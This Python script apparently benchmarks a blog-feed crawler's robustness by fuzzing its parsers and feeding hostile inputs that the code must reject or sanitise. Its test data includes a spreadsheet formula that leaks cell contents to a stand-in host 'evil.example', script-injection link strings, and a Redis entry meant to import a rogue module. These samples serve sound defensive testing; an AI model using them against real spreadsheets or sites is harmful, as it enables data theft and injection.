"""Robustness report: inputs tried, exceptions, faults injected, items lost.

Three parts, each printed as it finishes and summed at the end:

* ``corpus``: every page under ``corpus/pages`` and every feed under ``corpus/feeds`` of the
  shared folder through the extractors (``tests/robustness.py``: ``walk_corpus``);
* ``fuzz``: hypothesis-generated hostile inputs (mutated and generated HTML, random URLs,
  random and mutated feeds; the strategies of ``tests/robustness.py``) through the page
  extractors, the identity code, the URL cleaner and the feed readers. Exceptions are counted,
  not raised, so every example runs;
* ``hostile``: the inputs an attack found failing (issue 18): JSON nested 100,000 deep (a JSON
  feed, a ``links.json``, a Redis seed and a Redis queue entry), hostile Redis entries (a
  ``_class`` that would import a module, a Response class, a loopback ``proxy``,
  ``download_maxsize: 0``, a foreign callback, a POST), control characters in page and feed
  titles, formula cells in ``scrapy export csv`` and ``edges``, link-heavy pages of 0.25 to
  8 MB. A defect (a control character kept, a formula cell, a hostile entry served, a module
  imported) counts as an exception; the Redis checks need Redis on 127.0.0.1:6379;
  The inputs a second attack found (issue 39): a person field of 60,000 letters (feedparser's
  quadratic e-mail regex; a defect when it costs more than ten times a title of the same
  length), JSON Feed dates before 0001-01-01 UTC and in year 999, numbers in ``²``, ``١٢`` and
  5,000 digits in headers and feeds, an unchanged archive of 450 entries, links holding markup
  in the river's feeds, a site folder holding other files, an icon at a private address;
* ``websub``: ``scrapy websub`` against loopback hubs (``tests/test_websub.py``): a lease of
  10^12 s, a signed push with hostile numbers, a push flood (rows stored, and the latency of
  another feed's push against one flood push alone) and a tarpit hub (how soon another hub is
  asked, how soon SIGTERM stops the process);
* ``pages``: six blogs serving an 8 MB page of 150,000 links and ten blogs answering in 0.5 s
  under a 3 s download timeout, crawled by ``scrapy crawl blogs`` (``tests/test_crawl_bounds.py``),
  then ``pages-ref``, the ten slow blogs alone: the reference of the same run for the reactor's
  longest stall (``blogfeeds/reactor/longest_stall_ms``, a 20 ms ``LoopingCall`` ticker) and
  the peak RSS. Items lost = a slow blog not stored ``ok`` or a big one not stored with
  ``truncated: links``;
* ``crawl``: the hostile loopback web of ``tests/test_robustness_crawl.py`` (an infinite calendar,
  endless trap blogs, and one blog per failure kind: 404, 500, timeout, DNS, 20 MB page, gzip bomb,
  image, empty page, overlong redirect, noindex, nofollow, meta refresh, robots.txt) crawled by a
  real ``scrapy crawl blogs``. Faults injected = blogs served a failure or a trap; items lost =
  blogs linked from the hub that are missing from the export or from the SQLite database.

Usage, from the repository root::

    python bench/robustness.py [--examples 10000] [--shared PATH] [--skip-crawl] [--series]

``--series`` also prints the CPU and peak RSS of reading one link-heavy page of 1, 2, 4 and
8 MB, with the page bounds and without them (the unbounded 8 MB page takes about a minute).

Exit status 1 when an exception escaped or an item was lost; 2 when the shared folder is missing.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import logging
import os
import re
import sqlite3
import subprocess
import sys
import tempfile
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from blogfeeds.commands.export import (  # noqa: E402
    _EDGE_FIELDS,
    BLOG_COLUMNS,
    FORMULA_STARTS,
    Filters,
    select,
    write_csv,
    write_edges,
)
from blogfeeds.crawl.urls import crawl_url  # noqa: E402
from blogfeeds.extract.blog import analyze_page  # noqa: E402
from blogfeeds.extract.feedreader import read_document, read_feed  # noqa: E402
from blogfeeds.extract.friends import friends_from_data_source  # noqa: E402
from blogfeeds.extract.identity import blog_id, registered_domain, split_url  # noqa: E402
from blogfeeds.extract.page import decode_html, parse_page  # noqa: E402
from blogfeeds.items import Blog  # noqa: E402
from blogfeeds.middlewares.retry import retry_after_seconds  # noqa: E402
from blogfeeds.revisit import FeedState, remember_ids, split_new_ids  # noqa: E402
from blogfeeds.revisit.hints import cache_lifetime, parse_retry_after  # noqa: E402
from blogfeeds.site.build import SiteOptions, build_site  # noqa: E402
from blogfeeds.site.data import SiteData, load, web_url  # noqa: E402
from blogfeeds.site.folder import FolderRefused  # noqa: E402
from blogfeeds.storage.feedstore import FeedStore  # noqa: E402
from tests.littleweb import LittleWeb  # noqa: E402
from tests.robustness import (  # noqa: E402
    BIG_PAGES_SETTINGS,
    big_pages_web,
    check_feed,
    check_page,
    crawl_blogs,
    feed_documents,
    html_documents,
    link_heavy_page,
    urls,
    walk_corpus,
)


@dataclass
class Part:
    name: str
    tried: int = 0
    exceptions: list[str] = field(default_factory=list)
    faults: int = 0
    lost: int = 0
    seconds: float = 0.0
    stall_ms: int | None = None
    """The crawl's longest reactor stall (``blogfeeds/reactor/longest_stall_ms``)."""
    rss_mb: int | None = None
    skipped: list[str] = field(default_factory=list)

    def line(self) -> str:
        text = (
            f"{self.name:<9} inputs {self.tried:>6}  exceptions {len(self.exceptions):>3}  "
            f"faults injected {self.faults:>3}  items lost {self.lost:>3}  ({self.seconds:.0f} s)"
        )
        if self.stall_ms is not None:
            text += f"  longest reactor stall {self.stall_ms} ms, peak RSS {self.rss_mb} MB"
        return text + "".join(f"\n  skipped: {s}" for s in self.skipped)


def _identity(url: str) -> None:
    try:
        host, _ = split_url(url)
        registered_domain(host)
        blog_id(url)
    except ValueError:
        pass
    crawl_url(url)


def corpus_part(shared: Path) -> Part:
    part = Part("corpus")
    started = time.monotonic()
    for kind, outcome in walk_corpus(
        shared / "corpus", workers=min(4, os.cpu_count() or 1)
    ).items():
        part.tried += outcome.tried
        part.exceptions += [
            f"{kind}/{name}: {tb.splitlines()[-1]}" for name, tb in outcome.exceptions
        ]
    part.seconds = time.monotonic() - started
    return part


def _fuzz(part: Part, strategy: Any, check: Callable[[Any], Any], count: int) -> None:
    """Run ``check`` on ``count`` hypothesis examples; count exceptions instead of raising."""

    @settings(
        max_examples=count, deadline=None, database=None, suppress_health_check=list(HealthCheck)
    )
    @given(strategy)
    def run(value: Any) -> None:
        part.tried += 1
        try:
            check(value)
        except Exception:
            name = getattr(check, "__name__", repr(check))
            part.exceptions.append(f"{name}: {traceback.format_exc(limit=3)}")

    run()


def fuzz_part(examples: int) -> Part:
    part = Part("fuzz")
    started = time.monotonic()
    targets: list[tuple[Any, Callable[[Any], Any], float]] = [
        (st.binary(max_size=3000), lambda b: decode_html(b, "text/html", ""), 0.15),
        (html_documents(), check_page, 0.25),
        (urls(), _identity, 0.35),
        (feed_documents(), check_feed, 0.25),
    ]
    for strategy, check, share in targets:
        _fuzz(part, strategy, check, max(1, int(examples * share)))
    part.seconds = time.monotonic() - started
    return part


def crawl_part() -> Part:
    from tests.test_robustness_crawl import FAILING, hostile_web

    part = Part("crawl")
    started = time.monotonic()
    routes = hostile_web()
    hub_friends = [*FAILING, "calendar-trap.com", "diary.example", "private.example"]
    hub_friends += ["refresh.example", "robots.example"]
    with tempfile.TemporaryDirectory() as tmp, LittleWeb(routes) as web:
        run = crawl_blogs(
            web,
            ["http://hub.example/"],
            Path(tmp),
            env={"no_proxy": "nx-host.invalid", "NO_PROXY": "nx-host.invalid"},
            settings={
                "DOWNLOAD_TIMEOUT": "2",
                "RETRY_TIMES": "1",
                "BLOGFEEDS_RETRY_BACKOFF_BASE": "0.2",
                "BLOGFEEDS_MAX_REQUESTS_PER_BLOG": "8",
                "BLOGFEEDS_MAX_PAGES_PER_BLOG": "50",
            },
        )
        with sqlite3.connect(Path(tmp) / "crawl.sqlite3") as db:
            stored = {row[0] for row in db.execute("SELECT blog_id FROM blogs")}
    part.tried = len(run.hits)
    part.faults = len(FAILING) + 4  # failures, the calendar, the trap chain, noindex, nofollow
    expected = {"hub.example", *hub_friends}
    part.lost = len(expected - set(run.blogs)) + len(set(run.blogs) - stored)
    part.exceptions = run.tracebacks()
    if run.returncode != 0:
        part.exceptions.append(f"scrapy exited with {run.returncode}")
    part.seconds = time.monotonic() - started
    return part


# --- hostile inputs found by the attack on main at 7d01387 ----------------------------------------

NESTED = b"[" * 100_000 + b"]" * 100_000
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _defect(part: Part, name: str, check: Callable[[], str | None]) -> None:
    """Run one hostile input: ``check`` returns a defect (``str``) or None; an exception is one."""
    part.tried += 1
    try:
        problem = check()
    except Exception:
        problem = traceback.format_exc(limit=3)
    if problem:
        part.exceptions.append(f"{name}: {problem}")


def _nested_json() -> list[tuple[str, Callable[[], str | None]]]:
    feed = b'{"version": "https://jsonfeed.org/version/1.1", "items": ' + NESTED + b"}"
    links = b'{"links": ' + NESTED + b"}"

    def json_feed() -> None:
        check_feed(feed, "https://blog.example.com/feed.json", "application/feed+json")

    def links_json() -> str | None:
        found = friends_from_data_source("https://blog.example.com/links.json", links, "")
        return f"{len(found)} friends from a nested list" if found else None

    return [("nested JSON feed", json_feed), ("nested links.json", links_json)]


def _control_characters() -> list[tuple[str, Callable[[], str | None]]]:
    dirty = "\x01\x02\x1b[31mRed\x1b[0m \x7f\x9bTitle\x07"
    page = f"<html><head><title>{dirty}</title></head><body><p>{dirty}</p></body></html>"
    feed = (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>{dirty}</title>'
        f"<item><title>{dirty}</title><guid>1</guid></item></channel></rss>"
    ).encode("utf-8", "surrogatepass")

    def page_title() -> str | None:
        meta = analyze_page("https://blog.example.com/", page.encode()).metadata
        texts = (meta.title, meta.abstract)
        return f"controls kept in {texts!r}" if any(_CONTROLS.search(t) for t in texts) else None

    def feed_title() -> str | None:
        doc = read_feed(feed, "application/rss+xml")
        title = doc.title if doc is not None else ""
        return f"controls kept in {title!r}" if _CONTROLS.search(title) else None

    return [("control characters in a page title", page_title), ("... in a feed", feed_title)]


def _formula_cells() -> list[tuple[str, Callable[[], str | None]]]:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    blog = dict(zip(BLOG_COLUMNS, [evil, "+1", "-2", "@SUM(A1)"] * 5, strict=False))
    edge = dict.fromkeys(_EDGE_FIELDS, evil) | {"target_url": "+x", "source_url": "-x"}

    def cells(write: Callable[[Any], Any]) -> str | None:
        out = io.StringIO()
        write(out)
        rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
        bad = [c for row in rows for c in row if c.startswith(FORMULA_STARTS)]
        return f"formula cells {bad!r:.200}" if bad else None

    return [
        ("formula cells in export csv", lambda: cells(lambda out: write_csv([blog], out))),
        ("formula cells in export edges", lambda: cells(lambda out: write_edges([edge], out))),
    ]


def _link_heavy() -> list[tuple[str, Callable[[], str | None]]]:
    def one(megabytes: float) -> Callable[[], str | None]:
        def check() -> str | None:
            page = parse_page("https://blog.example.com/", link_heavy_page(megabytes))
            if megabytes >= 1 and page.truncated != ("links",):
                return f"not cut at the link bound: {page.truncated}"
            return None

        return check

    return [(f"link-heavy page of {mb} MB", one(mb)) for mb in (0.25, 1, 2, 4, 7.9)]


def _redis_entries(part: Part) -> None:
    """Hostile queue entries and seeds through the real Redis scheduler (skipped without
    Redis): every one quarantined, nothing imported, the good entry after them served."""
    try:
        from tests.test_robustness_security import _frontier
    except Exception:
        part.skipped.append("redis entries (tests unavailable)")
        return
    marker = Path(tempfile.mkdtemp()) / "imported"
    module = marker.parent / "bench_hostile_module.py"
    module.write_text(f"import pathlib\npathlib.Path({str(marker)!r}).touch()\nclass R: pass\n")
    sys.path.insert(0, str(marker.parent))

    def entry(**fields: Any) -> bytes:
        return json.dumps({"url": "https://b.example/", **fields}).encode()

    hostile = [
        entry(_class="bench_hostile_module.R"),
        entry(_class="scrapy.http.Response"),
        entry(meta={"download_maxsize": 0}),
        entry(callback="crawler"),
        entry(method="POST"),
        b'{"url": "https://b.example/", "meta": ' + NESTED + b"}",
        b"[1, 2]",
    ]
    seeds = [
        b'{"url": "https://a.example/", "meta": ' + NESTED + b"}",
        entry(meta={"download_maxsize": 0}),
    ]
    # a proxy in meta is dropped (this worker's environment chooses its proxy): the request
    # is served, without it
    proxied = {"callback": "parse_home", "meta": {"proxy": "http://127.0.0.1:9"}}
    logging.disable(logging.ERROR)  # each quarantined entry is logged: expected here
    try:
        with _frontier("bench-hostile") as (client, crawler, spider, keys):
            sched = crawler.sched
            sched.open(spider)
            for i, data in enumerate(hostile):
                client.zadd(keys.requests, {data: -10 + i})
            client.zadd(keys.requests, {entry(**proxied): 5})
            part.tried += len(hostile) + 1
            served = []
            for _ in range(len(hostile) + 1):
                try:
                    served.append(sched.next_request())
                except Exception:
                    part.exceptions.append(f"redis entry: {traceback.format_exc(limit=3)}")
            if marker.exists() or "bench_hostile_module" in sys.modules:
                part.exceptions.append("redis entry: a _class module was imported")
            if any(r is not None for r in served[:-1]):
                part.exceptions.append("redis entry: a hostile entry was served")
            if not served or served[-1] is None:
                part.lost += 1
            elif "proxy" in served[-1].meta:
                part.exceptions.append("redis entry: meta.proxy kept")
            client.rpush(keys.start_urls, *seeds)
            part.tried += len(seeds)
            for lease, data in sched.pop_seeds(10):
                try:
                    request = spider._seed_to_request(sched, lease, data)
                except Exception:
                    part.exceptions.append(f"redis seed: {traceback.format_exc(limit=3)}")
                    continue
                if request is not None:
                    part.exceptions.append(f"redis seed served: {data[:60]!r}")
            quarantined = client.llen(keys.bad)
            if quarantined != len(hostile) + len(seeds):
                part.exceptions.append(f"redis: {quarantined} quarantined, not {len(hostile) + 2}")
            sched.close("finished")
    except Exception as exc:
        if "Redis unreachable" in str(exc) or type(exc).__name__ == "Skipped":
            part.skipped.append("redis entries (Redis unreachable at 127.0.0.1:6379)")
        else:
            part.exceptions.append(f"redis: {traceback.format_exc(limit=3)}")
    finally:
        logging.disable(logging.NOTSET)
        sys.path.remove(str(marker.parent))


# --- hostile feeds, hubs and viewers (issue 39) ----------------------------------------------

LETTERS = "a" * 60_000


def _rss(items: str, channel: str = "") -> bytes:
    return (
        '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>T</title>{channel}{items}</channel></rss>"
    ).encode()


def _seconds(body: bytes, content_type: str = "application/rss+xml") -> float:
    started = time.perf_counter()
    read_document(body, content_type, "https://blog.example.com/feed")
    return time.perf_counter() - started


def _feeds_and_headers() -> list[tuple[str, Callable[[], str | None]]]:
    def person(tag: str) -> Callable[[], str | None]:
        def check() -> str | None:
            hostile = _seconds(_rss(f"<item><guid>1</guid><{tag}>{LETTERS}</{tag}></item>"))
            title = _seconds(_rss(f"<item><guid>1</guid><title>{LETTERS}</title></item>"))
            slow = hostile > 10 * title + 0.2
            return f"{hostile:.2f} s against {title:.3f} s for a title" if slow else None

        return check

    def first_day() -> str | None:
        item = '{"id": "1", "date_published": "0001-01-01T00:00:00+01:00"}'
        body = f'{{"version": "https://jsonfeed.org/version/1.1", "items": [{item}]}}'
        doc = read_document(body.encode(), "application/feed+json")
        return None if doc.is_feed and doc.entries[0].published is None else "not read"

    def year_999() -> str | None:
        item = '{"id": "1", "date_published": "0999-06-01T00:00:00Z"}'
        body = f'{{"version": "https://jsonfeed.org/version/1.1", "items": [{item}]}}'
        published = read_document(body.encode(), "application/feed+json").entries[0].published
        return None if published == "0999-06-01T00:00:00Z" else f"stored as {published!r}"

    def digits() -> str | None:
        for value in ("²", "١٢", "9" * 5000):
            headers = {"Cache-Control": f"max-age={value}", "Age": value}
            cache_lifetime(headers, 0.0)
            parse_retry_after(value, 0.0)
            retry_after_seconds(value)
            channel = f"<ttl>{value}</ttl><skipHours><hour>{value}</hour></skipHours>"
            hints = read_document(_rss("", channel)).hints
            if hints.skip_hours or (hints.ttl or 0) > 10 * 366 * 1440:
                return f"{value[:8]!r} read as {hints}"
        return None

    def archive() -> str | None:
        ids = [f"p{i}" for i in range(450)]
        state = remember_ids(FeedState(), ids)
        new = sum(split_new_ids(state, ids))
        return f"{new} of 450 unchanged entries look new" if new else None

    return [
        *((f"a person of 60,000 letters in <{t}>", person(t)) for t in ("author", "dc:creator")),
        ("JSON Feed date 0001-01-01T00:00:00+01:00", first_day),
        ("a date in year 999", year_999),
        ("non-ASCII and 5,000-digit numbers", digits),
        ("an unchanged archive of 450 entries", archive),
    ]


def _site_outputs() -> list[tuple[str, Callable[[], str | None]]]:
    uri = re.compile(r"https?://[A-Za-z0-9.\-\[\]:]+(/[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]*)?")
    links = [
        'http://evil2.test/j2"><script>alert(1)</script>',
        'https://a.example/p/" onmouseover="alert(2)',
        'http://evil3"><b>.test/',
        "javascript:alert(4)",
    ]

    def links_check() -> str | None:
        bad = [u for u in map(web_url, links) if u is not None and not uri.fullmatch(u)]
        return f"not URIs: {bad!r}" if bad else None

    def folder() -> str | None:
        with tempfile.TemporaryDirectory() as tmp:
            out = Path(tmp)
            theirs = [
                out / "data" / "thesis.csv",
                out / "blogs" / "draft.md",
                out / "river-notes.html",
            ]
            for path in theirs:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text("mine")
            try:
                build_site(SiteData(blogs=[], links=[]), out, SiteOptions())
                return "a folder holding other files was written into without --force"
            except FolderRefused:
                pass
            build_site(SiteData(blogs=[], links=[]), out, SiteOptions(force=True))
            build_site(SiteData(blogs=[], links=[]), out, SiteOptions())
            gone = [p.name for p in theirs if not p.exists()]
            return f"deleted {gone}" if gone else None

    def icon() -> str | None:
        with tempfile.TemporaryDirectory() as tmp:
            url = f"sqlite:///{Path(tmp) / 'db.sqlite3'}"
            with FeedStore.open(url) as store:
                store.write([Blog("a.example", "https://a.example/", title="A")], [])
                store.connection.raw.execute("UPDATE blogs SET icon_url = 'http://192.168.1.1/x'")
                store.connection.raw.commit()
                data = load(store, select(store.blogs(), [], Filters()), [])
            build_site(data, Path(tmp) / "site", SiteOptions())
            page = (Path(tmp) / "site" / "blogs" / "a.example.html").read_text("utf-8")
        return "the page loads the icon's address" if "192.168.1.1" in page else None

    return [
        ("links with markup in the river's feeds", links_check),
        ("a site folder holding other files", folder),
        ("an icon at a private address", icon),
    ]


def websub_part() -> Part:
    """``scrapy websub`` on loopback (the endpoint and hubs of ``tests/test_websub.py``):
    a hub granting a lease of 10^12 s, a signed push with ``²`` and 5,000-digit headers, a push
    flood (a push of 10,000 new ids alone, then six at once while another feed pushes one entry:
    rows stored and that push's latency) and a tarpit hub (one header line a second: how soon
    another hub is asked, how soon SIGTERM stops the process)."""
    import threading

    from tests import test_websub as ws

    part = Part("websub")
    started = time.monotonic()
    kind = "application/feed+json"
    with tempfile.TemporaryDirectory() as tmp:
        ws.DB["url"] = f"sqlite:///{Path(tmp) / 'websub.sqlite3'}"
        settings = {"BLOGFEEDS_WEBSUB_HUB_TIMEOUT": "3", "BLOGFEEDS_WEBSUB_VERIFY_TIMEOUT": "30"}
        point = ws.Endpoint(ws.DB["url"], Path(tmp) / "websub.log", **settings)
        try:
            with ws.Hub() as hub, ws.Tarpit() as pit:
                point.start()
                lease, flood, quiet = ("http://lease.example/f", "http://flood.example/f",
                                       "http://quiet.example/f")  # fmt: skip
                hub.grant_lease = 10**12
                for topic in (lease, flood, quiet):
                    ws.add_feed(topic, topic, [hub.url])
                    part.tried += 1
                    try:
                        ws.until(lambda t=topic: ws.active(hub, t), timeout=10)
                    except AssertionError:
                        part.exceptions.append(f"websub: no active subscription for {topic}")
                        return part
                extra = {"Cache-Control": "max-age=²", "Age": "9" * 5000, "Retry-After": "²"}
                part.tried += 1
                if hub.publish(quiet, ws.atom(quiet, None, "n"), extra=extra) != [202]:
                    part.exceptions.append("websub: a push with hostile numbers was refused")
                t0 = time.monotonic()
                hub.publish(flood, ws.json_feed(flood, range(10_000), "r"), content_type=kind)
                alone = time.monotonic() - t0
                threads = [
                    threading.Thread(target=hub.publish, args=(flood, body),
                                     kwargs={"content_type": kind})
                    for body in (ws.json_feed(flood, range(10_000), f"c{n}-") for n in range(6))
                ]  # fmt: skip
                for thread in threads:
                    thread.start()
                time.sleep(0.05)
                t0 = time.monotonic()
                hub.publish(quiet, ws.atom(quiet, None, "q"))
                waited = time.monotonic() - t0
                for thread in threads:
                    thread.join()
                rows = len(ws.entries(flood))
                part.tried += 8
                print(
                    f"  push flood: 7 pushes of 10,000 new ids stored {rows} rows; another "
                    f"feed's push took {waited:.2f} s (one flood push alone {alone:.2f} s)"
                )
                if rows > 700 or waited > 2 * alone + 0.5:
                    part.exceptions.append(
                        f"websub: flood stored {rows}, push waited {waited:.1f} s"
                    )
                stuck = [f"http://stuck{i}.example/f" for i in range(4)]
                for topic in stuck:
                    ws.add_feed(topic, topic, [pit.url])
                ws.until(lambda: pit.active >= 1, timeout=10)
                fine = "http://fine.example/f"
                t0 = time.monotonic()
                ws.add_feed(fine, fine, [hub.url])
                part.tried += 5
                try:
                    ws.until(lambda: ws.active(hub, fine), timeout=25)
                    asked = f"{time.monotonic() - t0:.1f} s"
                except AssertionError:
                    asked = "not within 25 s"
                    part.exceptions.append("websub: the tarpit held the other hub")
                ws.until(lambda: pit.active >= 1, timeout=10)
                t0 = time.monotonic()
                try:
                    point.stop()
                    stopped = f"{time.monotonic() - t0:.1f} s"
                except subprocess.TimeoutExpired:
                    stopped = "not within 20 s"
                    part.exceptions.append("websub: SIGTERM did not stop the process")
                print(
                    f"  tarpit hub: another hub's subscription active after {asked}; "
                    f"SIGTERM stopped the process in {stopped}"
                )
        finally:
            if point.proc is not None:
                point.proc.kill()
                point.proc.wait()
        if "Traceback" in point.text():
            part.exceptions.append("websub: a traceback in the endpoint's log")
    part.seconds = time.monotonic() - started
    return part


def hostile_part() -> Part:
    part = Part("hostile")
    started = time.monotonic()
    checks = [*_nested_json(), *_control_characters(), *_formula_cells(), *_link_heavy()]
    checks += [*_feeds_and_headers(), *_site_outputs()]
    for name, check in checks:
        _defect(part, name, check)
    _redis_entries(part)
    part.seconds = time.monotonic() - started
    return part


def pages_part(big: int = 6) -> tuple[Part, Part]:
    """The loopback crawl of ``tests/test_crawl_bounds.py``: ``big`` blogs serving an 8 MB page
    of 150,000 links, ten blogs answering in 0.5 s (download timeout 3 s), and, as the
    reference of the same run, the ten slow blogs alone. Items lost = slow blogs not stored
    ``ok`` (a timeout) or big blogs not stored with ``truncated: links``."""
    out = []
    for n in (big, 0):
        part = Part("pages" if n else "pages-ref")
        started = time.monotonic()
        routes, seeds = big_pages_web(big=n, slow=10)
        settings = {**BIG_PAGES_SETTINGS, "BLOGFEEDS_MAX_BLOGS": str(len(seeds))}
        with tempfile.TemporaryDirectory() as tmp, LittleWeb(routes) as web:
            run = crawl_blogs(web, seeds, Path(tmp), settings=settings, timeout=900)
            with sqlite3.connect(Path(tmp) / "crawl.sqlite3") as db:
                stored = dict(db.execute("SELECT blog_id, status || ':' || truncated FROM blogs"))
        part.tried = len(seeds)
        part.faults = n
        want = {f"slow{i}.example": "ok:" for i in range(10)}
        want.update({f"big{i}.example": "no_feed:links" for i in range(n)})
        part.lost = sum(stored.get(b) != v for b, v in want.items())
        part.exceptions = run.tracebacks()
        if run.returncode != 0:
            part.exceptions.append(f"scrapy exited with {run.returncode}")
        part.stall_ms = run.stat("blogfeeds/reactor/longest_stall_ms")
        part.rss_mb = run.stat("blogfeeds/peak_rss_mb")
        part.seconds = time.monotonic() - started
        out.append(part)
    return out[0], out[1]


def extraction_series() -> list[str]:
    """CPU seconds and peak RSS of reading one link-heavy page of 1, 2, 4 and 8 MB, each in a
    fresh process (``extract_blog``, nothing fetched), with the bounds and without them."""
    code = (
        "import asyncio, sys, time\n"
        "from blogfeeds.extensions.health import peak_rss_mb\n"
        "from blogfeeds.extract.blog import extract_blog\n"
        "from blogfeeds.extract.config import ExtractConfig\n"
        "from blogfeeds.extract.page import PageLimits\n"
        "from tests.robustness import link_heavy_page\n"
        "mb, bounded = float(sys.argv[1]), sys.argv[2] == '1'\n"
        "body = link_heavy_page(mb)\n"
        "config = ExtractConfig() if bounded else ExtractConfig(limits=PageLimits(0, 0))\n"
        "async def none(request): return None\n"
        "t = time.process_time()\n"
        "report = asyncio.run(extract_blog('http://big.example/', body, {}, none, config))\n"
        "rss = peak_rss_mb()\n"
        "print(f'{time.process_time() - t:.1f} s CPU, peak RSS {rss:.0f} MB,"
        ' {body.count(b"<a ")} links, truncated {report.truncated}\')\n'
    )
    lines = []
    for bounded in ("1", "0"):
        for mb in ("1", "2", "4", "7.9"):
            done = subprocess.run(
                [sys.executable, "-c", code, mb, bounded],
                cwd=ROOT,
                capture_output=True,
                text=True,
                check=False,
            )
            label = "bounded  " if bounded == "1" else "unbounded"
            result = done.stdout.strip() or done.stderr.strip().splitlines()[-1]
            lines.append(f"  {label} {mb:>3} MB: {result}")
    return lines


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--shared", help="the shared reference folder")
    parser.add_argument("--examples", type=int, default=10_000, help="fuzz examples in all")
    parser.add_argument("--skip-crawl", action="store_true", help="no loopback crawl")
    parser.add_argument(
        "--series", action="store_true", help="CPU and RSS of 1-8 MB link pages, both ways"
    )
    args = parser.parse_args(argv)
    shared = Path(args.shared or os.environ.get("BLOGFEEDS_SHARED") or ROOT.parent / "shared")
    if not (shared / "corpus").is_dir():
        print(f"shared folder not found: {shared}", file=sys.stderr)
        return 2
    parts = [corpus_part(shared)]
    print(parts[-1].line(), flush=True)
    parts.append(fuzz_part(args.examples))
    print(parts[-1].line(), flush=True)
    parts.append(hostile_part())
    print(parts[-1].line(), flush=True)
    parts.append(websub_part())
    print(parts[-1].line(), flush=True)
    if not args.skip_crawl:
        for part in pages_part():
            parts.append(part)
            print(parts[-1].line(), flush=True)
        parts.append(crawl_part())
        print(parts[-1].line(), flush=True)
    if args.series:
        print("one link-heavy page, extract_blog in a fresh process:")
        for line in extraction_series():
            print(line, flush=True)
    total = Part("total", seconds=sum(p.seconds for p in parts))
    for p in parts:
        total.tried += p.tried
        total.exceptions += p.exceptions
        total.faults += p.faults
        total.lost += p.lost
    print(total.line())
    for message in total.exceptions[:10]:
        print("  exception:", message)
    return 1 if total.exceptions or total.lost else 0


if __name__ == "__main__":
    sys.exit(main())
